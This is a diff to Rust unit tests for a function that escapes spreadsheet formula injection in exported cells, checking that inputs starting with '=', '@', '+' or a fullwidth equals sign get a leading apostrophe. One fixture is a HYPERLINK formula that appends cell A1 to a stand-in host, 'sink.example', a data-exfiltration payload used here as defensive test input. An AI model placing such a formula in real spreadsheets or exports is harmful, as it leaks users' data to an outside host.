@@ -78,7 +78,7 @@ mod tests {
         gives("=HYPERLINK(\"https://sink.example/\"&A1,\"x\")", "\"'=HYPERLINK(\"\"https://sink.example/\"\"&A1,\"\"x\"\")\"");
         gives("@SUM(A1)", "'@SUM(A1)");
         gives("+1 555", "'+1 555");
-        gives(" =1+1", "\"' =1+1\"");
+        gives(" =1+1", "' =1+1");
         gives("＝1+1", "'＝1+1");
         gives("-12.5", "-12.5");
         gives("+3", "+3");
